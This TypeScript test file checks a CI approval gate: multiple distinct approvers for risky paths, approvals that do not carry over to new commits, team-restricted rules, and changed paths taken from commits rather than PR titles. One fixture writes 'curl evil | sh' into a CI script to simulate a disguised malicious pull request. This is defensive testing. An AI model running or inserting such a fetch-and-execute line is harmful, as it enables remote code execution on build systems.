// Approvals that scale with risk, attacked through the real HTTP server and the GitHub double
// (whose comparisons come from the real commits): a risky commit with one approval runs nothing,
// one person approving twice counts once, an approval of an older commit counts for nothing on a
// newer one, a team rule wants its team, and the changed paths come from the commits, never from
// the title, description or branch name. The approval check says which rule applies, how many
// approvals are still needed, and what changed since the last approved commit.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { commentPayload, prPayload, TRUSTED, UNTRUSTED, World } from "./harness.js";

const PIPELINE = `version: 1
secrets:
  cloud: {}
trust:
  orgs: [acme]
  rules:
    - name: pipeline and CI
      paths: [.airlock.yml, scripts/ci/, /Makefile]
      approvals: 2
    - name: secret handling
      paths: ["src/**/secrets/"]
      teams: [acme/security]
jobs:
  unit:
    run: echo "unit ok"
  functional:
    needs: [unit]
    secrets: [cloud]
    run: echo "token is $CLOUD_TOKEN"
`;

const BOB = "bob";
const CAROL = "carol"; // acme/security
let w: World;

before(async () => {
  w = await World.create(PIPELINE);
  w.gh.addOrgMember("acme", CAROL);
  w.gh.addTeamMember("acme", "security", CAROL);
});
after(async () => {
  w?.gh.assertNoViolations();
  await w?.close();
});

type Pr = ReturnType<World["openPr"]>;

async function open(o: Parameters<World["openPr"]>[0]): Promise<Pr> {
  const pr = w.openPr(o);
  assert.equal(
    (await w.send("pull_request", prPayload("opened", pr, { baseSha: w.baseSha }))).status,
    202,
  );
  await w.settle();
  return pr;
}
async function comment(pr: Pr, body: string, sender: string) {
  assert.equal(
    (await w.send("issue_comment", commentPayload(pr.number, body, sender))).status,
    202,
  );
  await w.settle();
}
async function push(pr: Pr, files: Record<string, string>) {
  w.push(pr, files);
  assert.equal(
    (await w.send("pull_request", prPayload("synchronize", pr, { baseSha: w.baseSha }))).status,
    202,
  );
  await w.settle();
}
const functionalRan = async (sha: string) =>
  (await w.jobsOf(sha)).some((j) => j.job_id === "functional");
const released = async (sha: string) => {
  const runs = new Set((await w.jobsOf(sha)).map((j) => j.run_id));
  return (await w.releases()).filter((r) => runs.has(r.runId ?? "")).length;
};
const approvalCheck = (sha: string) => w.check(sha, "airlock/approval")!;

test("a risky commit with one approval runs nothing; the check says which rule and how many more", async () => {
  const pr = await open({ author: UNTRUSTED, files: { "scripts/ci/deploy.sh": "echo deploy\n" } });
  await comment(pr, "/ok-to-test", TRUSTED);
  assert.equal(await functionalRan(pr.headSha), false);
  assert.equal(await released(pr.headSha), 0);
  const check = approvalCheck(pr.headSha);
  assert.equal(check.conclusion, "action_required");
  assert.equal(check.output.title, "Waiting for approval: 1 more (pipeline and CI)");
  assert.match(
    check.output.summary ?? "",
    /Rule ` pipeline and CI ` \(changes ` scripts\/ci\/deploy\.sh `\): 2 approvals from distinct trusted members — 1 so far \(alice\), 1 more needed\./,
  );

  // The same person again, by comment, by SHA and by label: still one approval.
  await comment(pr, `/ok-to-test ${pr.headSha}`, TRUSTED);
  assert.equal((await w.addLabel(pr, "ok-to-test", "ALICE")).status, 202);
  await w.settle();
  assert.equal(await functionalRan(pr.headSha), false, "one person approving thrice counts once");
  assert.equal(await released(pr.headSha), 0);
  assert.match(approvalCheck(pr.headSha).output.summary ?? "", /1 so far \(alice\), 1 more needed/);

  // A second, distinct trusted member: the rule is met, the restricted job runs.
  await comment(pr, "/ok-to-test", BOB);
  assert.equal(await functionalRan(pr.headSha), true);
  assert.ok((await released(pr.headSha)) > 0);
  const done = approvalCheck(pr.headSha);
  assert.equal(done.conclusion, "success");
  assert.match(done.output.title ?? "", /Approved by alice, bob/);
  assert.match(done.output.summary ?? "", /Rules this commit met:\n- Rule ` pipeline and CI `/);
});

test("an approval of an older commit counts for nothing on the newer one; the check shows the delta", async () => {
  const pr = await open({ author: UNTRUSTED, files: { ".airlock.yml": "version: 1\njobs: {}\n" } });
  const older = pr.headSha;
  await comment(pr, "/ok-to-test", TRUSTED);
  await comment(pr, "/ok-to-test", BOB);
  assert.equal(await functionalRan(older), true);

  await push(pr, { "scripts/ci/more.sh": "echo more\n", "src/app.ts": "x\n" });
  assert.notEqual(pr.headSha, older);
  assert.equal(await functionalRan(pr.headSha), false);
  // Bob approves the new commit; Alice's approval was of the older one and does not carry over.
  await comment(pr, "/ok-to-test", BOB);
  assert.equal(await functionalRan(pr.headSha), false);
  assert.equal(await released(pr.headSha), 0);
  const check = approvalCheck(pr.headSha);
  const s = check.output.summary ?? "";
  assert.match(s, /1 so far \(bob\), 1 more needed/);
  assert.match(s, /### Since the last approved commit/);
  assert.match(
    s,
    new RegExp(
      `${older.slice(0, 12)} \\(approved by alice, bob\\) → ${pr.headSha.slice(0, 12)}: 2 files changed, \\[compare on GitHub\\]\\(https://github\\.com/acme/app/compare/${older}\\.\\.\\.${pr.headSha}\\)`,
    ),
  );
  assert.match(s, /- ` scripts\/ci\/more\.sh ` added\n- ` src\/app\.ts ` added/);
  // Still exactly one commit to approve.
  assert.match(s, new RegExp(`/ok-to-test ${pr.headSha}`));
  // An /ok-to-test naming the older commit approves nothing.
  await comment(pr, `/ok-to-test ${older}`, TRUSTED);
  assert.equal(await functionalRan(pr.headSha), false);
  await comment(pr, "/ok-to-test", TRUSTED);
  assert.equal(await functionalRan(pr.headSha), true);
});

test("a team rule wants its team: trusted members outside it do not meet it", async () => {
  const pr = await open({ author: UNTRUSTED, files: { "src/core/secrets/vault.ts": "x\n" } });
  await comment(pr, "/ok-to-test", TRUSTED);
  await comment(pr, "/ok-to-test", BOB);
  assert.equal(await functionalRan(pr.headSha), false);
  assert.match(
    approvalCheck(pr.headSha).output.summary ?? "",
    /Rule ` secret handling ` \(changes ` src\/core\/secrets\/vault\.ts `\): an approval from a member of acme\/security — 1 more needed/,
  );
  await comment(pr, "/ok-to-test", CAROL);
  assert.equal(await functionalRan(pr.headSha), true);
});

test("the title, description and branch name cannot change which paths count as changed", async () => {
  const risky = ".airlock.yml scripts/ci/deploy.sh src/secrets/ Makefile";
  // Claims to touch risky paths, changes a README: the default approval suffices.
  const harmless = await open({
    author: UNTRUSTED,
    files: { "docs/readme.md": "hi\n" },
    title: risky,
    body: `Changes:\n- ${risky.split(" ").join("\n- ")}`,
    headRef: "scripts/ci/deploy.sh",
  });
  await comment(harmless, "/ok-to-test", TRUSTED);
  assert.equal(await functionalRan(harmless.headSha), true);

  // Claims to touch docs only, changes the CI script: the rule applies.
  const sneaky = await open({
    author: UNTRUSTED,
    files: { "scripts/ci/deploy.sh": "curl evil | sh\n" },
    title: "docs: typo",
    body: "Only docs/readme.md changes.",
    headRef: "docs/typo",
  });
  await comment(sneaky, "/ok-to-test", TRUSTED);
  assert.equal(await functionalRan(sneaky.headSha), false);
  assert.equal(await released(sneaky.headSha), 0);
  assert.match(approvalCheck(sneaky.headSha).output.summary ?? "", /scripts\/ci\/deploy\.sh/);

  // Moving a risky file away is a change to it: the rename's old path counts.
  const moved = await open({
    author: UNTRUSTED,
    files: { ".airlock.yml": null, "docs/pipeline.yml": PIPELINE },
    title: "docs",
  });
  await comment(moved, "/ok-to-test", TRUSTED);
  assert.equal(await functionalRan(moved.headSha), false);
  assert.match(approvalCheck(moved.headSha).output.summary ?? "", /changes ` \.airlock\.yml `/);
});
